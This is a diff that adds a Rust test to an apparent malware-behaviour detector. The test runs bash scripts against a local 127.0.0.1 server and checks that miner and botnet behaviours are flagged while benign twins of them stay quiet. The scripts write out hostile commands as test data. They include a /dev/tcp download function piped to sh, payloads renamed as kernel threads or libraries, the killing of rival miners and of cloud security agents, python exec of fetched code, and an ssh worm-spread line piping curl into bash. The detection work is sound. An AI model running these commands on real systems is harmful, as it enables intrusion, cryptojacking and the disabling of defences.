@@ -8070,3 +8070,150 @@ fn downloads_a_script_hands_to_eval() {
         assert!(loud(&found).is_empty(), "{body}: {:?}", kinds(&found));
     }
 }
+
+/// Cloud-miner and botnet scripts, behaviour by behaviour (docs/EFFICACY.md, "Cloud-miner and
+/// botnet scripts"), each as lines of a bash script against a server on 127.0.0.1: TeamTNT's
+/// and Kinsing's `/dev/tcp` download function (`__curl URL | sh`, no curl, the connection made
+/// in a forked subshell), a payload copied under a kernel thread's name (Outlaw's `kswapd0`,
+/// `[kthreadd]`) or a library's (XorDDoS's `libudev.so.6`) and run, other miners killed by
+/// name, the cloud's host agent removed, a program fetched and exec'd inside python. A benign
+/// twin of each (the same function's output counted, a copied tool under its own name, glibc's
+/// runnable `libc.so.6`, `pkill` of an ordinary name, python printing what it fetched) raises
+/// nothing at Medium or above.
+#[test]
+fn miner_and_botnet_script_behaviours_and_their_benign_twins() {
+    if !privileged("miner_and_botnet_script_behaviours_and_their_benign_twins") {
+        return;
+    }
+    let url = http_server();
+    let dir = Scratch::new("miner-scripts");
+    let script = |name: &str, body: &str| {
+        let path = dir.path(name);
+        std::fs::write(&path, format!("#!/bin/bash\n{body}\n")).expect("script");
+        detect(run(Command::new("/bin/bash")
+            .arg(&path)
+            .current_dir(&dir.0)))
+    };
+    let curl_fn = r#"function __curl() {
+  read proto server path <<<$(echo ${1//// })
+  DOC=/${path// //}; HOST=${server//:*}; PORT=${server//*:}
+  exec 3<>/dev/tcp/${HOST}/$PORT
+  printf 'GET %s HTTP/1.0\r\nHost: %s\r\n\r\n' "$DOC" "$HOST" >&3
+  (while read line; do [[ "$line" == $'\r' ]] && break; done && cat) <&3
+  exec 3>&-
+}"#;
+    let raised = |name: &str, body: &str, rule_id: &str, label: SeverityLabel| {
+        let found = script(name, body);
+        let f = of(&found, rule_id);
+        assert!(!f.is_empty(), "{body}: {rule_id}: {:?}", kinds(&found));
+        assert!(
+            f.iter().all(|f| f.severity_label == label),
+            "{body}: {label:?}"
+        );
+        found
+    };
+    let quiet = |name: &str, body: &str| {
+        let found = script(name, body);
+        assert!(
+            found
+                .iter()
+                .all(|f| f.severity_label < SeverityLabel::Medium),
+            "{body}: nothing at Medium or above: {:?}",
+            kinds(&found)
+        );
+    };
+    let found = raised(
+        "devtcp-fn.sh",
+        &format!("{curl_fn}\n__curl {url}/x.sh | sh"),
+        "behaviour-download-pipe-exec",
+        SeverityLabel::High,
+    );
+    let w = &of(&found, "behaviour-download-pipe-exec")[0]
+        .context
+        .additional["pipeWriter"];
+    assert!(w.contains("cat"), "writer {w}");
+    quiet(
+        "devtcp-fn-count.sh",
+        &format!("{curl_fn}\n__curl {url}/x.sh | wc -c"),
+    );
+
+    let masquerade = |name: &str, file: &str, how: &str| {
+        let path = dir.path(file);
+        let found = raised(
+            name,
+            &format!("cp /usr/bin/true '{path}'\n'{path}'"),
+            "behaviour-masquerading",
+            SeverityLabel::High,
+        );
+        let f = of(&found, "behaviour-masquerading");
+        assert_eq!(f[0].context.additional["masquerade"], how, "{file}");
+    };
+    let kthread = "an executable file named like a kernel thread";
+    masquerade("kswapd.sh", "kswapd0", kthread);
+    masquerade("kthreadd.sh", "[kthreadd]", kthread);
+    masquerade(
+        "libudev.sh",
+        "libudev.so.6",
+        "an executable file named like a shared library",
+    );
+    let own = dir.path("vigil-tool");
+    let mut twin = format!("cp /usr/bin/true {own}\n{own}");
+    let libc = "/usr/lib/x86_64-linux-gnu/libc.so.6";
+    if Path::new(libc).exists() {
+        twin.push_str(&format!("\n{libc} > /dev/null"));
+    }
+    quiet("own-names.sh", &twin);
+
+    let n = nonce();
+    raised(
+        "competitors.sh",
+        &format!("pkill -f kdevtmpfsi-{n}\nkillall -q -9 xmrig-{n}\ntrue"),
+        "exec-miner-competitor-kill",
+        SeverityLabel::Medium,
+    );
+    quiet(
+        "pkill-own.sh",
+        &format!("pkill -f vigil-worker-{n}\nkillall -q vigil-worker-{n}\ntrue"),
+    );
+    // The cloud provider's host agent removed (none runs here), a program fetched and
+    // executed inside python; python fetching and printing raises nothing at Medium.
+    raised(
+        "cloud-agents.sh",
+        "pkill -x AliYunDun\nkillall -q YDService\ntrue",
+        "evasion-disable-security",
+        SeverityLabel::High,
+    );
+    raised(
+        "py-exec.sh",
+        &format!(
+            "python3 -c \"import urllib.request;exec(urllib.request.urlopen('{url}/v.py').read())\""
+        ),
+        "exec-interpreter-downloaded-program",
+        SeverityLabel::High,
+    );
+    if which("ssh").is_err() {
+        not_tested("ssh is not installed: the spread over ssh is not tested");
+    } else {
+        // A worm's spread over ssh (to a closed port on 127.0.0.1: the exec is the evidence).
+        raised(
+            "ssh-spread.sh",
+            &format!(
+                "ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=2 -p 1 root@127.0.0.1 \"(curl -fsSL {url}/x.sh||wget -q -O- {url}/x.sh)|bash\"\ntrue"
+            ),
+            "exec-remote-download-pipe-shell",
+            SeverityLabel::High,
+        );
+        quiet(
+            "ssh-health.sh",
+            &format!(
+                "ssh -oBatchMode=yes -oConnectTimeout=2 -p 1 root@127.0.0.1 \"curl -s {url}/v.json | jq .\"\ntrue"
+            ),
+        );
+    }
+    quiet(
+        "py-print.sh",
+        &format!(
+            "python3 -c \"import urllib.request;print(urllib.request.urlopen('{url}/v.json').read())\""
+        ),
+    );
+}
